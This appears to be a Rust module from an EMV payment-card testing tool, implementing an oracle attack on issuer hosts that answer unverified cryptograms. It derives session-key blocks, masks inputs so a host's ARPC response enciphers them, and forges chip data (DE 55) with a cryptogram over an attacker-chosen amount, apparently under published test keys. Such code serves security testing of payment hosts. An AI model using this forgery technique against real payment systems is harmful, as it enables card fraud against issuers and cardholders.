//! Attacks on hosts that answer cryptograms which they did not verify.

use std::vec::Vec;

use super::chip_bytes;
use super::device::require;
use super::scenario::Oracle;
use super::terminal::numeric;
use crate::crypto::Algorithm;
use crate::cryptogram::{CryptogramVersion, assemble};
use crate::error::Result;
use crate::issuer::ChipData;
use crate::key::{Ac, KeyPolicy, SessionKey};
use crate::tag;

/// What the forged cryptogram is over: 49.00, so that nothing but the cryptogram speaks against it.
pub(super) const FORGED_AMOUNT: u64 = 4_900;

/// The two blocks that a card key enciphers to a session key (EMV Book 2 A1.3.1).
pub(super) fn blocks(oracle: Oracle, chip: &[u8]) -> Result<[[u8; 8]; 2]> {
    let [a, b] = require(chip, tag::APPLICATION_TRANSACTION_COUNTER)?;
    let [e, f, g, h] = match oracle {
        Oracle::CommonSessionKey | Oracle::Tampered => [0; 4],
        Oracle::MastercardSessionKey => require(chip, tag::UNPREDICTABLE_NUMBER)?,
    };
    Ok([0xF0, 0x0F].map(|half| [a, b, half, 0, e, f, g, h]))
}

/// The cryptogram that makes a host encipher this block when it answers by ARPC method 1 with this code.
pub(super) fn masked(mut block: [u8; 8], code: &str) -> [u8; 8] {
    for (byte, code) in block.iter_mut().zip(code.bytes()) {
        *byte ^= code;
    }
    block
}

/// DE 55 over the attacker's amount, signed with what he has for a session key.
pub(super) fn forge(
    version: &CryptogramVersion,
    chip: &[u8],
    halves: [[u8; 8]; 2],
) -> Result<Vec<u8>> {
    let chip = chip_bytes::put(
        chip,
        tag::AMOUNT_AUTHORISED_NUMERIC,
        &numeric(FORGED_AMOUNT),
    )?;
    let algorithm = Algorithm::Tdes;
    let key = SessionKey::<Ac>::new(algorithm, &halves.concat(), KeyPolicy::PublishedTestKeys)?;
    let data = assemble(&version.data, &ChipData::parse(&chip)?)?;
    let cryptogram = key.mac(version.padding, data.as_bytes())?;
    chip_bytes::put(&chip, tag::APPLICATION_CRYPTOGRAM, &cryptogram)
}
